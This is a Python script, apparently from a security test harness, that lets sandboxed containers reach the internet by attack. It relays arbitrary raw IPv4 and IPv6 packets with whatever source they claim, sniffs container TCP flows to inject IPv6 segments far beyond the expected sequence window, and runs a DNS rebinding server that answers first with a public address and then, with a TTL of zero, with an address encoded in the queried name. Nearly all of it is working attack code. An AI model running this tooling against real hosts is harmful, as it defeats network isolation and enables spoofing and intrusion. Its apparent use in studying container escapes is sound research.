# Whom guarded containers may ask, in the internet. Sends the packets that it is asked to send, whatever they say of
# themselves, segments of IPv6 also far beyond what the flow's other end awaits; and answers questions for names below rebind.tunnel.example.net: with an address of the internet at
# first, and from then on with the address that the name's second label tells. argv: where it is asked to send, and
# the address and port of questions.

import base64, socket, struct, sys, threading, time
from attack import ip6, tcp_at

FIRST4, FIRST6 = "203.0.113.89", "2001:db8:2::59"
ally, resolver, port = sys.argv[1:4]


# What the containers' ends of TCP flows of IPv6 await next, by the address that is seen here (their own, or their host's, which
# is that of all of its containers), the server that they lead to, and the port.
awaited = {}


def watch_flows():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD)) as s:
        while True:
            packet = s.recv(2048)
            if packet[6] == 6 and packet[53] & 16 and packet[42:44] == struct.pack("!H", 9000):
                awaited[packet[8:40] + packet[40:42]] = struct.unpack("!I", packet[48:52])[0]


def beyond(packet, seen):
    """The packet, to the container's own address, that far beyond what its flow from `seen` awaits."""
    src, dst = (socket.inet_ntop(socket.AF_INET6, packet[at:at + 16]) for at in (8, 24))
    sport, dport = struct.unpack("!HH", packet[40:44])
    at = awaited[socket.inet_pton(socket.AF_INET6, seen) + packet[8:24] + packet[42:44]]
    return ip6(src, dst, 6, tcp_at(src, dst, sport, dport, (at + (1 << 29)) % (1 << 32), packet[60:]))


def throw_beyond(raw6, packet, seen):
    """Once there is such a flow: on a busy host it may come late."""
    for _ in range(50):
        try:
            raw6.sendto(beyond(packet, seen), (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0))
            return
        except KeyError:
            time.sleep(0.1)
    print("no flow from", seen, packet[42:44].hex(), flush=True)


def throw():
    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        s.bind((ally, 7000))
        while True:
            order, _, packet = s.recv(65535).rpartition(b" ")
            packet = base64.b64decode(packet)
            if order.startswith(b"beyond "):
                args = (raw6, packet, order.split()[1].decode())
                threading.Thread(target=throw_beyond, args=args, daemon=True).start()
                continue
            v6 = packet[0] >> 4 == 6
            to = socket.inet_ntop(socket.AF_INET6, packet[24:40]) if v6 else socket.inet_ntoa(packet[16:20])
            try:
                (raw6 if v6 else raw4).sendto(packet, (to, 0))
            except OSError as error:
                print(to, error, flush=True)


def answer(message, asked):
    at = 12
    labels = []
    while message[at]:
        labels.append(message[at + 1:at + 1 + message[at]].decode().lower())
        at += 1 + message[at]
    kind = struct.unpack("!H", message[at + 1:at + 3])[0]
    told = labels[1].upper()
    second = base64.b32decode(told + "=" * (-len(told) % 8))
    size, first = (4, socket.inet_aton(FIRST4)) if kind == 1 else (16, socket.inet_pton(socket.AF_INET6, FIRST6))
    found = b""
    if kind in (1, 28) and len(second) == size:
        found = second if (labels[0], kind) in asked else first
        asked.add((labels[0], kind))
    head = message[:2] + struct.pack("!HHHHH", 0x8580, 1, 1 if found else 0, 0, 0)
    # A name by reference to the question, of the internet's class, with a TTL of 0.
    record = struct.pack("!HHHIH", 0xC00C, kind, 1, 0, len(found)) + found if found else b""
    return head + message[12:at + 5] + record


def rebind():
    asked = set()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((resolver, int(port)))
        print("ready", flush=True)
        while True:
            message, peer = s.recvfrom(2048)
            try:
                s.sendto(answer(message, asked), peer)
            except (IndexError, ValueError, struct.error) as error:
                print(peer, error, flush=True)


threading.Thread(target=watch_flows, daemon=True).start()
threading.Thread(target=throw, daemon=True).start()
rebind()
